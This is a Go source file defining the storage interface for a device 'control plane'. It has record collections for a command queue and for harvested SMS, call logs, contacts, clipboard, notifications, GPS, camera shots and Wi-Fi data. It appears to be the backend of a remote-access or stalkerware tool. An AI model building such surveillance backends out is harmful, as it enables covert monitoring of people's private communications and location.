// Package store defines the per-device durable document store contract the
// control plane is built on, together with the persisted document shapes.
// Implementations must make every call observably atomic; no cross-document
// transactions are offered.
package store

import (
	"context"
	"errors"
)

var (
	ErrNotFound  = errors.New("not found")
	ErrDuplicate = errors.New("record with this fingerprint already exists")
)

// Collection names one fingerprinted record collection within a device's
// document set.
type Collection string

const (
	CollectionCommandQueue  Collection = "CommandQueue"
	CollectionSMS           Collection = "SMSData"
	CollectionCalls         Collection = "CallData"
	CollectionContacts      Collection = "contacts"
	CollectionWifiLog       Collection = "wifiLog"
	CollectionClipboardLog  Collection = "clipboardLog"
	CollectionNotifications Collection = "notificationLog"
	CollectionGPS           Collection = "GPSData"
	CollectionDownloads     Collection = "downloads"
	CollectionCameraShots   Collection = "cameraShots"
)

// Singleton document names.
const (
	DocGPSSettings     = "GPSSettings"
	DocSMSStatus       = "smsStatus"
	DocWifiStatus      = "wifiStatus"
	DocFileStatus      = "fileStatus"
	DocAppsStatus      = "appsStatus"
	DocClipboardStatus = "clipboardStatus"
	DocWifiNow         = "wifiNow"
	DocCurrentFolder   = "currentFolder"
	DocPermissions     = "enabledPermissions"
	DocApps            = "apps"
	DocCameras         = "availableCameras"
)

// Store is the Telemetry Store contract. Record collections are keyed by a
// content fingerprint unique within (device, collection); singleton documents
// are keyed by name. ListRecords preserves insertion order.
type Store interface {
	GetDevice(ctx context.Context, deviceID string) (*Device, error)
	ListDevices(ctx context.Context) ([]Device, error)
	PutDevice(ctx context.Context, device *Device) error
	// DeleteDevice removes the device record together with all of its
	// documents, records, and blobs.
	DeleteDevice(ctx context.Context, deviceID string) error

	GetDoc(ctx context.Context, deviceID, name string, out any) error
	SetDoc(ctx context.Context, deviceID, name string, doc any) error

	// AppendRecord inserts a new record and returns ErrDuplicate if one with
	// the same fingerprint already exists in the collection.
	AppendRecord(ctx context.Context, deviceID string, col Collection, fingerprint string, rec any) error
	FindRecord(ctx context.Context, deviceID string, col Collection, fingerprint string, out any) (bool, error)
	UpdateRecord(ctx context.Context, deviceID string, col Collection, fingerprint string, rec any) error
	ListRecords(ctx context.Context, deviceID string, col Collection, out any) error
	RemoveRecord(ctx context.Context, deviceID string, col Collection, fingerprint string) error

	// SaveBlob persists a reassembled binary payload and returns its key.
	SaveBlob(ctx context.Context, deviceID, name string, data []byte) (string, error)
	GetBlob(ctx context.Context, key string) ([]byte, error)
}
